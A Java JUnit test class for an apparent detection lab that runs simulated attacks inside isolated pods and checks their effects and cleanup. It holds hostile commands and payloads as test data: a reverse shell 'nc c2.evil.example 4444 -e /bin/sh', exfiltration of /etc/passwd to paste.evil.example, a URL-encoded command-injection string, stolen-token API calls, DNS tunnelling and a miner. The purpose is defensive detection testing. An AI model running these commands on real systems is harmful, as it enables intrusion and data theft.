package dev.vigil.lab.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.lab.Lab;
import dev.vigil.lab.LabStatus;
import dev.vigil.lab.netns.Netns;
import dev.vigil.testkit.Requirements;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every scenario performed for real against the lab (root): one this JVM already owns, else one of
 * this class's own. Each test checks the effect by
 * lab means — tool output, what the attacker's servers received, the kernel's {@code /proc}, the
 * overlay's upper directory, kube-dns's query log, files on the host — and that the scenario
 * undid what it started.
 */
class AttackScenariosTest {

    private static LabStatus lab;

    @BeforeAll
    static void lab() {
        Requirements.requireRoot();
        Requirements.requireCommands("runc", "ip", "socat", "dnsmasq", "redis-server", "busybox", "curl", "openssl", "nmap", "perl",
                "script");
        lab = Lab.shared();
    }

    private static ScenarioResult perform(String name) {
        return perform(name, null);
    }

    private static ScenarioResult perform(String name, SourceRef from) {
        Scenario scenario = Scenarios.named(name).orElseThrow();
        Source source = (from == null ? scenario.defaultSource() : from).resolve(lab);
        ScenarioResult r = scenario.run(lab, source, AttackListener.SILENT);
        assertThat(r.failure()).as(name + " failed; steps:\n" + r.steps().stream().map(s -> s.commandLine() + " -> " + s.exitCode()
                + "\n" + s.output()).collect(Collectors.joining("\n"))).isNull();
        assertThat(r.remains()).as(name + " left behind").isEmpty();
        assertThat(r.evidence()).as(name).isNotEmpty();
        long wall = System.currentTimeMillis() * 1_000_000L;
        assertThat(r.startNanos()).isBetween(wall - 600_000_000_000L, r.endNanos());
        for (Step s : r.steps()) {
            assertThat(s.startNanos()).as(s.action()).isBetween(r.startNanos(), s.endNanos());
            assertThat(s.endNanos()).as(s.action()).isLessThanOrEqualTo(r.endNanos());
        }
        return r;
    }

    private static String outputs(ScenarioResult r) {
        return r.steps().stream().map(Step::output).collect(Collectors.joining("\n"));
    }

    private static List<String> commands(ScenarioResult r) {
        return r.steps().stream().filter(s -> !s.command().isEmpty()).map(Step::commandLine).toList();
    }

    private static Source source(String namespace, String workload) {
        return Source.resolve(lab, namespace, workload, null);
    }

    private static boolean toolkitPresent(Source where) {
        return Files.exists(ContainerFs.resolve(where.container(), Toolkit.DIR), LinkOption.NOFOLLOW_LINKS);
    }

    private static boolean listening(String netns, String ip, int port) throws Exception {
        return Netns.call(netns, () -> {
            try (Socket s = new Socket()) {
                s.connect(new InetSocketAddress(ip, port), 500);
                return true;
            } catch (IOException e) {
                return false;
            }
        });
    }

    @Test
    void portScanListsTheServingPortsWithConnectSynAndUdpScans() {
        ScenarioResult r = perform("port-scan");
        assertThat(commands(r)).anySatisfy(c -> assertThat(c).startsWith("nmap -n -Pn -sT").endsWith("10.244.1.20"))
                .anySatisfy(c -> assertThat(c).startsWith("nmap -n -Pn -sS").endsWith("10.244.1.20"))
                .anySatisfy(c -> assertThat(c).startsWith("nmap -n -Pn -sU").endsWith("10.244.1.2"));
        assertThat(outputs(r)).containsPattern("(?m)^8080/tcp +open").containsPattern("(?m)^53/udp +open")
                .contains("Nmap done: 1 IP address (1 host up)");
        assertThat(r.steps().getFirst().action()).isEqualTo("drop nmap into the container");
        assertThat(r.steps().getFirst().preparation()).isTrue();
        assertThat(r.steps().get(1).preparation()).isFalse();
        assertThat(r.attackStartNanos()).isEqualTo(r.steps().get(1).startNanos()).isGreaterThan(r.startNanos());
        assertThat(toolkitPresent(source("shop-web", "frontend"))).as("the toolkit is removed afterwards").isFalse();
    }

    @Test
    void pingSweepReachesEveryPodOfTheSlash24() {
        ScenarioResult r = perform("ping-sweep");
        for (LabStatus.Pod p : lab.pods()) {
            assertThat(outputs(r)).as(p.name()).contains("bytes from " + p.ip() + ":");
        }
    }

    @Test
    void egressUploadsToThePasteServerAndFetchesOverTls() throws Exception {
        ScenarioResult r = perform("egress");
        Source frontend = source("shop-web", "frontend");
        assertThat(r.evidence().getFirst()).startsWith("paste.evil.example (203.0.113.66) received ")
                .endsWith("bytes from " + frontend.pod().name() + ": its hostname and /etc/passwd");
        assertThat(outputs(r)).contains("https://paste.evil.example/p/1").contains("SSL-Session:");
        assertThat(listening("vigil-lab-inet-evil", "203.0.113.66", 80)).as("the paste server is stopped").isFalse();
    }

    @Test
    void apiContactGetsThePodListWithTheStolenToken() {
        ScenarioResult r = perform("api-contact");
        Source frontend = source("shop-web", "frontend");
        String out = outputs(r);
        assertThat(out).contains("\"kind\":\"PodList\"").contains("\"name\":\"" + frontend.pod().name() + "\"").endsWith("200");
        assertThat(r.steps().getFirst().commandLine()).contains("https://kubernetes.default.svc/api/v1/namespaces/shop-web/pods");
    }

    @Test
    void tokenReadPrintsTheTokenTheLabMounted() throws IOException {
        ScenarioResult r = perform("token-read");
        LabStatus.Pod api = source("shop-api", "api").pod();
        Path mounted = Path.of(lab.dir(), "pods", api.namespace() + "_" + api.name() + "_" + api.uid(), "serviceaccount", "token");
        assertThat(r.steps().getFirst().output().strip()).isEqualTo(Files.readString(mounted).strip());
        assertThat(r.evidence().getFirst()).startsWith("read the token of system:serviceaccount:shop-api:api");
        assertThat(r.attackStartNanos()).isEqualTo(r.steps().getFirst().startNanos());
    }

    @Test
    void shellHasATerminalAndTheServerSpawnedShellRunsTheInjection() {
        ScenarioResult r = perform("shell");
        assertThat(r.steps().getFirst().output()).containsPattern("(?m)^/dev/pts/\\d+").contains("uid=0(root)");
        assertThat(r.steps().get(1).commandLine()).contains("/cgi-bin/diag?host=www.example.test%3Bid%3Bps%20-o%20pid%2Cppid%2Ccomm%2Cargs%3Btrue");
        assertThat(r.steps().get(1).output()).contains("uid=33(www-data)");
        assertThat(r.evidence().get(1)).matches(".*process chain: 1 httpd \\(/usr/sbin/httpd [^)]*\\) -> \\d+ httpd \\(/usr/sbin/httpd"
                + "[^)]*\\) -> \\d+ diag \\(/bin/sh diag\\) -> \\d+ sh \\(sh -c nslookup www.example.test;id;ps .*\\)");
    }

    @Test
    void reverseShellOutputReachesTheListener() throws Exception {
        ScenarioResult r = perform("reverse-shell");
        Source frontend = source("shop-web", "frontend");
        Step listener = r.steps().stream().filter(s -> s.where().startsWith("c2.evil.example")).findFirst().orElseThrow();
        assertThat(listener.output()).startsWith("connection from " + frontend.pod().ip()).contains("uid=0(root)")
                .contains(frontend.pod().name()).contains("/www");
        assertThat(commands(r)).contains("nc c2.evil.example 4444 -e /bin/sh");
        assertThat(listening("vigil-lab-inet-evil", "203.0.113.66", 4444)).as("the listener is closed").isFalse();
    }

    @Test
    void driftRunsAFileOfTheUpperDirectoryAndRemovesItAfterwards() {
        ScenarioResult r = perform("drift");
        Source api = source("shop-api", "api");
        ContainerFs.Overlay overlay = ContainerFs.overlay(api.pod(), api.container());
        assertThat(r.evidence().getFirst()).contains("-> /tmp/kworkerd").contains(overlay.upper().resolve("tmp/kworkerd").toString());
        assertThat(overlay.upper().resolve("tmp/kworkerd")).doesNotExist();
    }

    @Test
    void filelessRunsFromAMemfd() {
        ScenarioResult r = perform("fileless");
        assertThat(r.evidence().getFirst()).matches("host pid \\d+: /proc/\\d+/exe -> /memfd:kworker \\(deleted\\)");
        assertThat(r.steps().getFirst().action()).isEqualTo("drop perl into the container");
        assertThat(toolkitPresent(source("shop-api", "api"))).isFalse();
    }

    @Test
    void shmExecRunsFromTheMemoryVolumeAndRemovesItAfterwards() {
        ScenarioResult r = perform("shm-exec");
        LabStatus.Pod pg = source("shop-data", "postgres").pod();
        assertThat(r.evidence().getFirst()).contains("-> /dev/shm/kdevtmpfsi");
        assertThat(Path.of(lab.dir(), "pods", pg.namespace() + "_" + pg.name() + "_" + pg.uid(), "volumes", "dshm", "kdevtmpfsi"))
                .doesNotExist();
    }

    @Test
    void shmExecFromAPodWithANoexecShmCannotBePerformed() {
        Scenario scenario = Scenarios.named("shm-exec").orElseThrow();
        ScenarioResult r = scenario.run(lab, source("shop-web", "frontend"), AttackListener.SILENT);
        assertThat(r.performed()).isFalse();
        assertThat(r.failure()).contains("/dev/shm in shop-web/").contains("is mounted noexec")
                .endsWith("run from a pod whose /dev/shm is an emptyDir of medium Memory: --from shop-data/postgres");
        assertThat(r.steps()).isEmpty();
    }

    @Test
    void minerSpeaksStratumWithThePool() {
        ScenarioResult r = perform("miner");
        Step pool = r.steps().stream().filter(s -> s.where().startsWith("pool.minexmr.example")).findFirst().orElseThrow();
        assertThat(pool.output()).isEqualTo("connection from " + source("shop-data", "cache").pod().ip()
                + "\nmining.subscribe\nmining.authorize " + Miner.WORKER + "\nmining.submit vigil-job-1");
        assertThat(outputs(r)).contains("\"method\":\"mining.notify\"").contains("\"method\":\"mining.set_difficulty\"");
    }

    @Test
    void plaintextReachesTheLedgerOverHttp() {
        ScenarioResult r = perform("plaintext");
        assertThat(r.steps().getFirst().output()).contains("<h1>Payments ledger</h1>").endsWith("200");
        assertThat(r.evidence().getFirst()).contains("vigil.dev/encryption=required in the API").contains("10.244.1.50:8080");
    }

    @Test
    void weakTlsNegotiatesTls10And11AndStopsTheServer() throws Exception {
        ScenarioResult r = perform("weak-tls");
        assertThat(outputs(r)).containsPattern("Protocol\\s+: TLSv1\\n").containsPattern("Protocol\\s+: TLSv1\\.1\\n");
        assertThat(r.evidence()).hasSize(2);
        assertThat(r.steps().stream().filter(Step::preparation).map(Step::action)).containsExactly(
                "make a self-signed certificate for legacy.example.net",
                "legacy TLS server (openssl s_server, TLS 1.0-1.1, SECLEVEL=0) listening");
        assertThat(listening("vigil-lab-inet-legacy", "203.0.113.44", 443)).as("the legacy server is stopped").isFalse();
    }

    @Test
    void sqlInjectionReturnsEveryRowAndTheDatabaseVersion() {
        ScenarioResult r = perform("sqli");
        assertThat(r.steps().get(0).output().lines().filter(l -> l.contains("|"))).containsExactly("1|lantern|19.90");
        assertThat(r.steps().get(1).output()).contains("1|lantern|19.90", "2|tent|149.00", "3|stove|59.50", "4|rope|12.25");
        assertThat(r.steps().get(2).output()).contains("|PostgreSQL 15");
    }

    @Test
    void dnsTunnelQueriesReachKubeDnsWithRandomLookingLabels() throws IOException {
        ScenarioResult r = perform("dns-tunnel");
        Source dns = source("kube-system", "coredns");
        Path log = Path.of(lab.dir(), "pods", dns.pod().namespace() + "_" + dns.pod().name() + "_" + dns.pod().uid(), "dnsmasq.log");
        String apiIp = source("shop-api", "api").pod().ip();
        List<String> lines = Files.readAllLines(log);
        long txt = lines.stream().filter(l -> l.contains("query[TXT] ") && l.endsWith(".c.t.evil.example from " + apiIp)).count();
        Pattern data = Pattern.compile(".*query\\[A\\] ([0-9a-f]{60})\\.\\d+\\.t\\.evil\\.example from " + Pattern.quote(apiIp));
        List<String> labels = lines.stream().map(data::matcher).filter(Matcher::matches).map(m -> m.group(1)).distinct().toList();
        assertThat(txt).isGreaterThanOrEqualTo(DnsTunnel.TXT_BURST);
        assertThat(labels).hasSizeGreaterThanOrEqualTo(10);
        // docs/detection.md: a tunnel is 5 subdomains of 30+ characters with 3.5+ bits of entropy per character
        assertThat(labels.stream().filter(l -> entropy(l) >= 3.5).count()).as("labels " + labels).isGreaterThanOrEqualTo(5);
        assertThat(r.evidence().getFirst()).contains("TXT queries under t.evil.example from " + apiIp);
    }

    private static double entropy(String s) {
        Map<Character, Long> counts = s.chars().mapToObj(c -> (char) c).collect(Collectors.groupingBy(c -> c, Collectors.counting()));
        return counts.values().stream().mapToDouble(n -> -(double) n / s.length() * Math.log((double) n / s.length()) / Math.log(2))
                .sum();
    }

    @Test
    void aSourceWithoutTheToolGetsItDroppedInAndRemoved() {
        Source cache = source("shop-data", "cache");
        ScenarioResult r = perform("egress", new SourceRef("shop-data", "cache", null));
        assertThat(r.source()).isEqualTo(cache.toString());
        assertThat(r.steps().getFirst().action()).isEqualTo("drop curl into the container");
        assertThat(r.steps().getFirst().output()).startsWith("copied /usr/bin/curl to /tmp/.vigil-toolkit/bin/curl with ");
        assertThat(toolkitPresent(cache)).isFalse();
    }

    @Test
    void scenariosRunInOrderWithThePauseBetween() throws InterruptedException {
        Scenario token = Scenarios.named("token-read").orElseThrow();
        List<ScenarioResult> results = Scenarios.run(List.of(token, token), lab, null, Duration.ofMillis(700), AttackListener.SILENT);
        assertThat(results).hasSize(2).allSatisfy(r -> assertThat(r.performed()).isTrue());
        assertThat(results.get(1).startNanos() - results.get(0).endNanos()).isGreaterThanOrEqualTo(700_000_000L);
        List<ScenarioResult> missing = Scenarios.run(List.of(token), lab, new SourceRef("shop-web", "nothing", null), Duration.ZERO,
                AttackListener.SILENT);
        assertThat(missing.getFirst().failure()).startsWith("no pod of shop-web/nothing in the lab; pods: ");
        List<String> heard = new ArrayList<>();
        Scenarios.run(List.of(token), lab, null, Duration.ZERO, new AttackListener() {
            @Override
            public void scenarioStarting(Scenario scenario, Source source) {
                heard.add("start " + scenario.name());
            }

            @Override
            public void starting(String action, String where) {
                heard.add("step " + action);
            }

            @Override
            public void evidence(String line) {
                heard.add("evidence");
            }

            @Override
            public void scenarioDone(ScenarioResult result) {
                heard.add("done " + result.performed());
            }
        });
        assertThat(heard).containsExactly("start token-read", "step read the service-account token", "evidence", "done true");
    }
}
